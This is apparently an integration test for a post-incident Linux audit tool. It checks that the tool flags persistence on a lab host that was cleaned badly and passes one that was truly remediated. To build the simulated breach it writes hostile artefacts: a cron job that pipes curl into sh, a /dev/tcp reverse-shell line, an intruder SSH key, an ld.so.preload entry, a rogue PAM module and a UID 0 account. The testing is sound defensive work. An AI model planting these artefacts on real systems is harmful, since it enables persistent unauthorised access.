#!/bin/bash
# lab-incident.sh -- post-incident verdicts that survive the remediation, on
# two real sshd hosts of their own (tests/lab/sshd-hosts.sh profiles
# breached and cleaned). Timeline, in real time:
#   lab start; S (compromise start); the intruder plants on both hosts;
#   bundle A (--previous); more planted on h1; R (remediation);
#   h1: a remediation that touches inodes only (cp -a restore, chmod,
#       touch of a host key), h2: a true one (artefacts removed, keys
#       regenerated, root's keys rewritten); bundle B.
# Then B is evaluated with the incident S..R, the earlier bundle A and an
# allow-list holding the administrators' key. h1 must fail each LNX-INC
# check with the timestamp kind it names; h2 must fail none.
# Everything is written inside the hosts' private /etc (overlay), /root,
# /home and /tmp, never in this machine's /usr or /var.
# Needs root. Own addresses: INC_LAB_NET (default 10.203) and
# INC_LAB_PREFIX (default rinc), so that it runs beside the main lab.
. "$(dirname "$0")/lib.sh"
t_setup
export LSAN_OPTIONS=${LSAN_OPTIONS:-suppressions=$SRCDIR/tests/lsan.supp:fast_unwind_on_malloc=0}
[ "$(id -u)" = 0 ] || { not_ok "lab-incident needs root (namespaces)"; t_done; exit 1; }
HOSTS=$SRCDIR/tests/lab/sshd-hosts.sh
W=$T_TMP/lab
export LAB_NET=${INC_LAB_NET:-10.203} LAB_PREFIX=${INC_LAB_PREFIX:-rinc}
trap '"$HOSTS" stop "$W" > /dev/null 2>&1; t_cleanup' EXIT
if ! "$HOSTS" start "$W" breached cleaned > "$T_TMP/start.log" 2>&1; then
	not_ok "start the post-incident hosts" "$(tail -5 "$T_TMP/start.log")"
	t_done; exit 1
fi
ok "start the post-incident hosts (h1 breached, h2 cleaned)"
C=$W/client
KH=$C/known_hosts
x() { local n=$1; shift; "$HOSTS" exec "$W" "$n" sh -c "$*"; }
utc() { date -u +%Y-%m-%dT%H:%M:%SZ; }

printf '<?xml version="1.0"?>\n<baseline xmlns="urn:rempart:baseline:1" id="inc" kind="linux"><title lang="en">i</title><title lang="fr">i</title><select module="linux/incident"/></baseline>\n' > "$T_TMP/inc.xml"
printf '[linux]\nh1 ansible_host=%s.1.2\nh2 ansible_host=%s.2.2\n[linux:vars]\nansible_user=auditor\nansible_ssh_private_key_file=%s\nansible_become=true\n' \
	"$LAB_NET" "$LAB_NET" "$C/id_ed25519" > "$T_TMP/inc.ini"
collect() {
	"$REMPART" collect -i "$T_TMP/inc.ini" -b "$T_TMP/inc.xml" --known-hosts "$KH" \
		-o "$1" > "$1.out" 2>&1
}
# the intruder's key, and the administrators' (the lab client's) key
ssh-keygen -q -t ed25519 -N '' -C intruder -f "$T_TMP/intruder"
INTRUDER=$(cut -d' ' -f1,2 "$T_TMP/intruder.pub")
FP_INTRUDER=$(ssh-keygen -lf "$T_TMP/intruder.pub" | awk '{ print $2 }')
cp "$C/id_ed25519.pub" "$T_TMP/allowed.pub"
LIBC=$(ldd /bin/true | awk '/libc\.so/ { print $3 }')

# --- the compromise
sleep 2; S=$(utc); sleep 1
for n in 1 2; do
	x $n "printf '* * * * * root curl -fsSL http://198.51.100.7/u.sh | sh\n' > /etc/cron.d/backup
		mkdir -p /root/.ssh; echo '$INTRUDER intruder' >> /root/.ssh/authorized_keys
		chmod 600 /root/.ssh/authorized_keys"
done
x 1 "printf '[Service]\nExecStart=/var/tmp/.cache/upd\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/upd.service
	ln -s /etc/systemd/system/upd.service /etc/systemd/system/multi-user.target.wants/upd.service
	printf '[ -n \"\$RP_LAB_NEVER\" ] && bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n' > /etc/profile.d/z-update.sh
	echo '$LIBC' > /etc/ld.so.preload
	mkdir -p /etc/security/.lib; cp /lib/x86_64-linux-gnu/security/pam_permit.so /etc/security/.lib/pam_sys.so
	printf 'auth sufficient /etc/security/.lib/pam_sys.so\n' > /etc/pam.d/lab-unused
	printf '#!/bin/sh\nexit 0\n' > /etc/cron.daily/logrotate-x; chmod 755 /etc/cron.daily/logrotate-x
	touch -d '2019-03-04 05:06:07 UTC' /etc/cron.daily/logrotate-x"
collect "$T_TMP/evA"
check "bundle A (during the compromise) collected" "$REMPART" evidence verify "$T_TMP/evA"
# after bundle A: a UID 0 account and a new sudo member
x 1 "echo 'toor2:x:0:0::/root:/bin/sh' >> /etc/passwd; echo 'toor2:!:19000:0:99999:7:::' >> /etc/shadow
	sed -i 's/^sudo:x:27:.*/sudo:x:27:svc-old/' /etc/group"

# --- the remediation
sleep 2; R=$(utc); sleep 2
# h1: touches inodes, renews nothing: restore from a copy with cp -a, a
# chmod/chown sweep, the host keys restored and one touched
x 1 "cp -a /etc/cron.d/backup /root/b && rm /etc/cron.d/backup && cp -a /root/b /etc/cron.d/backup && rm /root/b
	chmod 644 /etc/systemd/system/upd.service; chown root:root /etc/profile.d/z-update.sh /etc/ld.so.preload
	chmod 600 /root/.ssh/authorized_keys
	cp -a /etc/ssh/ssh_host_rsa_key /root/k && cp -a /root/k /etc/ssh/ssh_host_rsa_key && rm /root/k
	touch /etc/ssh/ssh_host_ed25519_key /etc/ssh/ssh_host_ed25519_key.pub"
# h2: the artefacts removed, host keys regenerated, root's keys rewritten
x 2 "rm -f /etc/cron.d/backup /root/.ssh/authorized_keys /etc/ssh/ssh_host_*
	ssh-keygen -q -t ed25519 -N '' -C h2-renewed -f /etc/ssh/ssh_host_ed25519_key
	cat > /root/.ssh/authorized_keys.new && chmod 600 /root/.ssh/authorized_keys.new &&
	mv /root/.ssh/authorized_keys.new /root/.ssh/authorized_keys" < "$T_TMP/allowed.pub"
# the administrators update known_hosts with h2's new key
grep -v "^$LAB_NET\.2\.2 " "$KH" > "$KH.new"
echo "$LAB_NET.2.2 $(cut -d' ' -f1,2 "$W/h2/etc-upper/ssh/ssh_host_ed25519_key.pub")" >> "$KH.new"
mv "$KH.new" "$KH"
collect "$T_TMP/evB"
check "bundle B (after the remediation) collected" "$REMPART" evidence verify "$T_TMP/evB"
python3 - "$T_TMP/evB" > "$T_TMP/targets.txt" <<'PY'
import json, sys
for h in ("h1", "h2"):
    t = json.load(open("%s/targets/%s/target.json" % (sys.argv[1], h)))
    print(h, t["status"], t.get("elevated"))
PY
check_grep "h1 audited as root" '^h1 ok (True|1)' "$T_TMP/targets.txt"
check_grep "h2 audited as root, with its new host key" '^h2 ok (True|1)' "$T_TMP/targets.txt"

cat > "$T_TMP/incident.xml" <<EOF
<?xml version="1.0"?>
<incident xmlns="urn:rempart:incident:1"><organisation>Lab</organisation>
<compromise-start>$S</compromise-start><remediation>$R</remediation>
<compromised-host>h1</compromised-host><compromised-host>h2</compromised-host></incident>
EOF
"$REMPART" evaluate -e "$T_TMP/evB" -b "$T_TMP/inc.xml" --incident "$T_TMP/incident.xml" \
	--previous "$T_TMP/evA" --allowed-keys "$T_TMP/allowed.pub" -o "$T_TMP/r.json" 2> "$T_TMP/eval.err"
python3 - "$T_TMP/r.json" > "$T_TMP/r.txt" <<'PY'
import json, sys
for r in sorted(json.load(open(sys.argv[1]))["results"], key=lambda r: (r["target"], r["check"])):
    print(r["target"], r["check"], r["status"], (r["observed"] or "").replace("\n", " "))
PY
st() { grep -qE "^$1 $2 $3( |$)" "$T_TMP/r.txt"; }
has() { grep -E "^$1 $2 " "$T_TMP/r.txt" | grep -qE -- "$3"; }
expect() { # description host check status [ERE the observed value matches]
	if st "$2" "$3" "$4" && { [ -z "${5:-}" ] || has "$2" "$3" "$5"; }; then ok "$1"
	else not_ok "$1" "$(grep -E "^$2 $3 " "$T_TMP/r.txt" | cut -c1-400)"; fi
}

# h1: each check fails, naming the timestamp kind
expect "h1 INC-001: cron job restored with cp -a: content of the window" h1 LNX-INC-001 fail \
	"/etc/cron\.d/backup \[[^]]*content changed"
expect "h1 INC-001: ... flagged restored, content not renewed" h1 LNX-INC-001 fail \
	"/etc/cron\.d/backup \[[^]]*restored or re-permissioned after the remediation, content not renewed"
expect "h1 INC-001: backdated file (mtime 2019) found by its ctime" h1 LNX-INC-001 fail \
	"/etc/cron\.daily/logrotate-x \[[^]]*metadata changed"
BIRTH=$(stat -c %W "$W/h1/etc-upper/cron.d/backup" 2>/dev/null || echo 0)
if [ "${BIRTH:-0}" != 0 ] && [ "$BIRTH" != - ]; then
	expect "h1 INC-001: backdated file: created in the window, mtime before birth" h1 LNX-INC-001 fail \
		"/etc/cron\.daily/logrotate-x \[created [^]]*mtime before birth \(backdated or copied with its old times\)"
else
	ok "h1 INC-001: no birth time on this file system (not asserted; the evidence says so)"
	check_grep "h1 INC-001: the evidence says birth times are unknown" 'no birth time' "$T_TMP/r.json"
fi
expect "h1 INC-002: unit re-permissioned after the remediation" h1 LNX-INC-002 fail \
	"/etc/systemd/system/upd\.service \[[^]]*content changed[^]]*restored or re-permissioned"
expect "h1 INC-003: profile.d script" h1 LNX-INC-003 fail "/etc/profile\.d/z-update\.sh \[[^]]*content changed[^]]*restored or re-permissioned"
expect "h1 INC-004: ld.so.preload chowned after: still content of the window" h1 LNX-INC-004 fail \
	"/etc/ld\.so\.preload \[[^]]*content changed[^]]*restored or re-permissioned"
expect "h1 INC-005: PAM file" h1 LNX-INC-005 fail "/etc/pam\.d/lab-unused \[[^]]*content changed"
expect "h1 INC-007: root's keys chmod-ed after: content of the window" h1 LNX-INC-007 fail \
	"/root/\.ssh/authorized_keys \[[^]]*content changed[^]]*restored or re-permissioned"
expect "h1 INC-011: account files" h1 LNX-INC-011 fail "/etc/passwd \[[^]]*content changed"
expect "h1 INC-021: rsa key restored (cp -a): not renewed" h1 LNX-INC-021 fail \
	"/etc/ssh/ssh_host_rsa_key \(content of [^)]*not renewed; inode changed since: restored or re-permissioned\)"
expect "h1 INC-021: ecdsa key left alone: content of before the remediation" h1 LNX-INC-021 fail "/etc/ssh/ssh_host_ecdsa_key \(content of [^;)]*, not renewed\)"
expect "h1 INC-021: ed25519 key touched: same fingerprint as bundle A" h1 LNX-INC-021 fail \
	"/etc/ssh/ssh_host_ed25519_key \(same key SHA256:[^ ]+ as in the evidence of"
expect "h1 INC-022: root's keys chmod-ed, not rewritten: not reviewed" h1 LNX-INC-022 fail \
	"/root/\.ssh/authorized_keys \(content of .*restored or re-permissioned\)"
expect "h1 INC-022: ... one key outside the allow-list" h1 LNX-INC-022 fail "1 key\(s\), 1 not in the allow-list"
expect "h1 INC-030: the cron job's curl | sh" h1 LNX-INC-030 fail "/etc/cron\.d/backup:1:.*curl -fsSL http://198\.51\.100\.7/u\.sh \| sh"
expect "h1 INC-030: the /dev/tcp line" h1 LNX-INC-030 fail "/etc/profile\.d/z-update\.sh:1:.*/dev/tcp/"
expect "h1 INC-031: the unit runs from a hidden path in /var/tmp" h1 LNX-INC-031 fail \
	"upd\.service:2:ExecStart=/var/tmp/\.cache/upd"
expect "h1 INC-032: ld.so.preload not empty" h1 LNX-INC-032 fail "preload\|$LIBC"
expect "h1 INC-033: PAM module outside the distribution" h1 LNX-INC-033 fail \
	"pam\|/etc/security/\.lib/pam_sys\.so\|/etc/security/\.lib/pam_sys\.so\|-"
expect "h1 INC-034: the intruder's key, by fingerprint" h1 LNX-INC-034 fail "root: ssh-ed25519 $(printf %s "$FP_INTRUDER" | sed 's/[+.]/\\&/g')"
expect "h1 INC-035: UID 0 account new since bundle A" h1 LNX-INC-035 fail "toor2 \(UID 0, new since"
expect "h1 INC-035: sudo member new since bundle A" h1 LNX-INC-035 fail "svc-old \(added to sudo since"
check_nogrep "h1 INC-034: the administrators' key is not listed" \
	"^h1 LNX-INC-034 .*$(ssh-keygen -lf "$T_TMP/allowed.pub" | awk '{ print $2 }' | sed 's/[+/]/./g')" "$T_TMP/r.txt"

# h2: the true remediation passes every check (no false positive)
grep '^h2 ' "$T_TMP/r.txt" | awk '$3 == "fail" || $3 == "error"' > "$T_TMP/h2-bad.txt"
if [ ! -s "$T_TMP/h2-bad.txt" ]; then ok "h2: no LNX-INC check fails or errs after a true remediation"
else not_ok "h2: no LNX-INC check fails or errs" "$(cut -c1-300 "$T_TMP/h2-bad.txt")"; fi
for c in 001 002 003 004 005 006 007 011 021 022 030 031 032 033 034 035 036; do
	expect "h2 LNX-INC-$c passes" h2 LNX-INC-$c pass
done

# The old rule, max(mtime, ctime), is gone: the same bundle without the
# remediation date still finds h1's artefacts (window open to the audit)
sed 's|<remediation>[^<]*</remediation>||' "$T_TMP/incident.xml" > "$T_TMP/incident-open.xml"
"$REMPART" evaluate -e "$T_TMP/evB" -b "$T_TMP/inc.xml" --incident "$T_TMP/incident-open.xml" \
	-o "$T_TMP/open.json" 2>/dev/null
results_lines "$T_TMP/open.json" > "$T_TMP/open.txt"
check_grep "open window: h1's cron file is found" '^h1 LNX-INC-001 fail$' "$T_TMP/open.txt"

# Accounts dated by shadow: a day window ten days ago finds svc-old
D1=$(date -u -d '-30 days' +%Y-%m-%d); D2=$(date -u -d '-5 days' +%Y-%m-%d)
D10=$(date -u -d '-10 days' +%Y-%m-%d)
printf '<?xml version="1.0"?>\n<incident xmlns="urn:rempart:incident:1"><organisation>Lab</organisation><compromise-start>%s</compromise-start><remediation>%s</remediation><compromised-host>h1</compromised-host></incident>\n' \
	"$D1" "$D2" > "$T_TMP/incident-days.xml"
"$REMPART" evaluate -e "$T_TMP/evB" -b "$T_TMP/inc.xml" --incident "$T_TMP/incident-days.xml" \
	-o "$T_TMP/days.json" 2>/dev/null
python3 - "$T_TMP/days.json" > "$T_TMP/days.txt" <<'PY'
import json, sys
for r in json.load(open(sys.argv[1]))["results"]:
    print(r["target"], r["check"], r["status"], r["observed"] or "")
PY
check_grep "INC-035: svc-old's password set in the window, by its shadow day" \
	"^h1 LNX-INC-035 fail .*svc-old \\(created or password set on $D10, in the window\\)" "$T_TMP/days.txt"
check_grep "INC-035: h2 has no account of that window" '^h2 LNX-INC-035 pass' "$T_TMP/days.txt"

# Coverage: what was examined, what could not be (evidence of the results)
python3 - "$T_TMP/r.json" > "$T_TMP/cov.txt" <<'PY'
import json, sys
for r in json.load(open(sys.argv[1]))["results"]:
    if r["check"] in ("LNX-INC-001", "LNX-INC-021", "LNX-INC-034", "LNX-INC-035"):
        print(r["target"], r["check"], (r.get("evidence") or "").replace("\n", " / "))
PY
check_grep "coverage: files examined and birth times known" '^h1 LNX-INC-001 .*examined [0-9]+ file\(s\); birth time known for [0-9]+' "$T_TMP/cov.txt"
check_grep "coverage: the allow-list was given" '^h1 LNX-INC-034 .*allow-list: given' "$T_TMP/cov.txt"
check_grep "coverage: accounts compared with the earlier bundle" '^h1 LNX-INC-035 .*compared with the earlier evidence bundle' "$T_TMP/cov.txt"

# Reports: the incident section says what was examined per host
"$REMPART" report -r "$T_TMP/r.json" -f md --lang en -o "$T_TMP/r.md" 2>/dev/null
check_grep "md report: the incident coverage per host" '^- h1: .*examined' "$T_TMP/r.md"

# Probe costs (measured): the content sweep
python3 - "$T_TMP/evB" > "$T_TMP/cost.txt" <<'PY'
import json, sys
for h in ("h1", "h2"):
    t = json.load(open("%s/targets/%s/target.json" % (sys.argv[1], h)))
    for p in t["probes"]:
        if p["id"].startswith(("linux.persist", "linux.admin-keys", "linux.hostkey", "linux.account")):
            print(h, p["id"], p.get("duration_ms"))
PY
sed 's/^/     probe ms: /' "$T_TMP/cost.txt"
t_done
